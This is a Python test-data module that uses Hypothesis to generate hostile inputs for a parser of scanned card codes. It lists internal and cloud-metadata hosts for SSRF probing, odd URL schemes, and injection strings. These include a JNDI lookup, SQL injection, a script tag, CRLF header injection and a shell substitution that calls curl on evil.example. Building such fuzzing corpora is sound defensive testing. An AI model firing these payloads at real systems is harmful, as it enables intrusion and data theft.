"""What strangers may print into a code: addresses that lead elsewhere, text that parsers quarrel about."""

from __future__ import annotations

from hypothesis import strategies as st

NUMBER = "3e506370-826a-103d-bf76-001000000001"
INSIDE = (
    "127.0.0.1", "127.0.0.1:22", "localhost", "[::1]", "[::]", "127.1", "0x7f.1", "2130706433",
    "017700000001", "169.254.169.254", "metadata.google.internal", "10.0.0.1", "192.168.0.1:8080",
    "[::ffff:127.0.0.1]", "127.0.0.1.nip.io", "router", "host.docker.internal", "esc.gg:22", "esc.gg.",
    "ⓔⓢⓒ.gg", "%65sc.gg",
)  # fmt: skip
SCHEMES = (
    "http", "https", "ftp", "file", "gopher", "dict", "ldap", "jar:http", "data", "javascript", "ws",
    "unix", "view-source:https", "blob:https", "intent", "git+ssh", "HTTP", "hTtPs", "http+unix", "mailto",
)  # fmt: skip
# {} stands for the number. Some of them are cards all the same: then their number is asked, and nothing else.
FORMS = (
    "{}/../../persons/1", "../../{}", "{}/status?x=1", "{}%2f..%2f..%2fpersons", "{}\\..\\persons", "{};x",
    "{}#/admin", "{}?url=http://evil.example", "{}@evil.example", "@evil.example/{}",
    "{}\r\nHost: evil.example", "{}%0d%0aX: y", "{}\x00.evil.example", "\u202e{}", "{}\u200b",
    "${{jndi:ldap://evil.example/{}}}", "{{{{7*7}}}}{}", "' OR '1'='1{}",
    "<script src=//evil.example>{}</script>", "{}';DROP TABLE people;--", "$({})", "`curl evil.example`{}",
    "|{}", "https://esc.gg/{}https://evil.example", "https://evil.example/https://esc.gg/{}",
    "https://esc.gg/{}/../x", "https://esc.gg//evil.example/{}", "https://esc.gg/\\evil.example/{}",
    "https://esc.gg/{}?next=//evil.example", "https://esc.gg:443@evil.example:80/{}",
    "https://esc.gg/%2e%2e/{}", "https://esc.gg/.{}", "https://esc.gg/{}.json", "https://esc.gg/{}\t",
    "https://esc.gg/\n{}", "WIFI:T:WPA;S:{};P:x;;", "BEGIN:VCARD\nURL:https://evil.example/{}",
    "otpauth://totp/x?secret={}", "SMSTO:+49:{}", "geo:0,0?q={}", "MATMSG:TO:a@evil.example;SUB:{};;",
    "00{}", "{}0",
)  # fmt: skip
PIECES = (
    NUMBER, NUMBER.upper(), NUMBER.replace("-", ""), "https://", "http:", "//", "/", "\\", "@", ":", ".",
    "..", "%2e", "%00", "?", "#", "esc.gg", "s.esc-r.eu", "evil.example", "127.0.0.1", "[", "]", "\r\n",
    "\t", "\x00", "\u202e", "\uff0e", "\u0435", "-", "0", "persons", "status", "cards", "urn:schac:", "%",
    "+", "&", "=", "$", "{", "}", " ",
)  # fmt: skip

STARTS = (
    "",
    "https://esc.gg/",
    "https://s.esc-r.eu/",
    "https://evil.example/",
    "http://127.0.0.1/",
    "https://esc.gg@",
)


def by_hand() -> list[str]:
    """Codes thought of one after the other."""
    led = [f"{scheme}://{host}/{NUMBER}" for scheme in SCHEMES for host in INSIDE]
    return led + [form.format(NUMBER) for form in FORMS] + ["", "x" * 60_000, NUMBER * 500, "9" * 7_000]


def generated() -> st.SearchStrategy[str]:
    """Pieces of addresses and numbers in any order, with anything between them."""
    text = st.text(max_size=20).filter(is_text)
    number = st.from_regex(
        r"[0-9a-f]{8}-[0-9a-f]{4}-1[0-9a-f]{3}-[89ab][0-9a-f]{3}-00[0-9]{10}", fullmatch=True
    )
    part = st.from_regex(r"[0-9a-fA-F-]{1,40}", fullmatch=True)
    pieces = st.lists(st.one_of(st.sampled_from(PIECES), text, number, part), max_size=12).map("".join)
    led = st.builds(
        "{}{}{}".format, st.sampled_from(STARTS), number, st.one_of(st.sampled_from(("", "/")), text)
    )
    return st.one_of(pieces, led)


def is_text(text: str) -> bool:
    """Whether JSON in UTF-8 can hold it at all: half a character cannot arrive."""
    return text == text.encode(errors="ignore").decode()
